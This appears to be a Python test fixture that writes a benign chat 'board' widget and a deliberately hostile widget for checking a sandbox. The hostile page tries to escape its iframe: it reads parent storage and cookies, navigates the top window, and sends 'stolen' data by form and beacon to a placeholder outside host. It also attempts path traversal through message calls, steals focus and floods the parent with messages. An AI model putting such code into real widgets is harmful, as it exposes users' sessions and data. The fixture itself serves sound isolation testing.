"""A bundle's widgets for the browser: one that follows the conversation, and one that tries everything to get out."""

from pathlib import Path

_BOARD = """<!doctype html><title>Board</title><link rel="stylesheet" href="parts/board.css">
<h1>Board</h1><p id="started"></p><pre id="canvas"></pre><p id="answer"></p>
<button id="count">Count</button><button id="close">Close ticket 7</button>
<img src="parts/dot.svg" alt="" id="dot">
<script type="module" src="parts/board.js"></script>
"""
_BOARD_SCRIPT = """
const say = (message) => parent.postMessage(JSON.stringify(message), "*");
const show = (id, text) => { document.getElementById(id).textContent = text; };
const texts = new Map();
addEventListener("message", ({ source, data }) => {
  if (source !== parent) return;
  const message = JSON.parse(data);
  if (message.everturn === "start") show("started", `version ${message.version}`);
  if (message.everturn === "text") {
    const key = [message.turn_id, message.round, message.channel, message.instance].join();
    texts.set(key, (texts.get(key) ?? "").slice(0, message.offset) + message.text);
    show("canvas", [...texts.values()].join(" | "));
  }
  if (message.everturn === "result") show("answer", JSON.stringify(message.result));
  if (message.everturn === "error") show("answer", `${message.error.status}: ${message.error.title}`);
});
document.getElementById("count").onclick = () => say({ everturn: "call", id: 1, operation: "count", arguments: {} });
document.getElementById("close").onclick = () => say({ everturn: "message", id: 2, text: "script:plain, close 7" });
say({ everturn: "ready" });
"""
_STYLE = "h1 { color: rgb(1, 2, 3) }"
_DOT = '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"><rect width="7" height="7"/></svg>'
_HOSTILE = """<!doctype html><title>Hostile</title><p id="report">not yet</p><input id="trap">
<link rel="stylesheet" href="STRANGER/style.css"><img src="STRANGER/image.png" alt="">
<iframe src="STRANGER/frame"></iframe>
<form id="form" action="STRANGER/form" method="post"><input name="stolen" value="all"></form>
<a id="link" href="STRANGER/link" target="_blank" ping="STRANGER/ping">out</a>
<a id="up" href="STRANGER/up" target="_top">up</a>
<script>
const tell = (what, attempt) => {
  try { return attempt() === true ? `${what} open` : `${what} closed`; } catch { return `${what} closed`; }
};
const ask = (what, attempt) => Promise.resolve().then(attempt).then(() => `${what} open`, () => `${what} closed`);
const now = [
  tell("parent", () => parent.document.title !== undefined),
  tell("token", () => parent.sessionStorage.length >= 0),
  tell("storage", () => localStorage.length >= 0),
  tell("cookies", () => { document.cookie = "hurt=1"; return document.cookie !== ""; }),
  tell("window", () => window.open("STRANGER/window") !== null),
  tell("top", () => { top.location.href = "STRANGER/top"; return true; }),
  tell("dialog", () => confirm("hurt?")),
];
for (const id of ["link", "up"]) document.getElementById(id).click();
document.getElementById("form").submit();
navigator.sendBeacon("STRANGER/beacon", "stolen");
parent.postMessage(JSON.stringify({ everturn: "message", id: 1, text: "script:plain from the widget" }), "*");
parent.postMessage(JSON.stringify({ everturn: "call", id: 2, operation: "../../../conversations" }), "*");
parent.postMessage("artifact-frame", "*");
Promise.all([
  ask("network", () => fetch("STRANGER/fetch", { mode: "no-cors" })),
  ask("our server", () => fetch("/bundles/default/default")),
  ask("sockets", () => new Promise((done, fail) => {
    const socket = new WebSocket("ws://127.0.0.1:PORT/");
    socket.onopen = done;
    socket.onerror = fail;
  })),
  ask("nested pages", () => new Promise((done, fail) => {
    const inner = document.createElement("iframe");
    inner.srcdoc = "<img src='STRANGER/nested.png' onload='top.hurt = 1'>";
    inner.onload = fail;
    document.body.append(inner);
  })),
]).then((later) => {
  document.getElementById("report").textContent = [`origin ${origin}`, ...now, ...later].join(", ");
});
addEventListener("message", ({ data }) => {
  if (data === "steal") setInterval(() => { window.focus(); document.getElementById("trap").focus(); }, 20);
  if (data === "leave") location.href = "STRANGER/self";
  if (data !== "flood") return;
  for (let count = 0; count < 20000; count += 1) {
    parent.postMessage(JSON.stringify({ everturn: "call", id: count, operation: "spam" }), "*");
  }
});
</script>
"""


def write_bundle(folder: Path, *, url: str, port: int) -> None:
    """The folder of the bundle `support`. The hostile widget knows the server at `url`, which nothing may reach."""
    board, hostile = folder / "widgets" / "board", folder / "widgets" / "hostile"
    (board / "parts").mkdir(parents=True)
    hostile.mkdir()
    (folder / "bundle.toml").write_text('id = "support"\n')
    (board / "index.html").write_text(_BOARD)
    (board / "parts" / "board.js").write_text(_BOARD_SCRIPT)
    (board / "parts" / "board.css").write_text(_STYLE)
    (board / "parts" / "dot.svg").write_text(_DOT)
    (hostile / "index.html").write_text(_HOSTILE.replace("STRANGER", url).replace("PORT", str(port)))
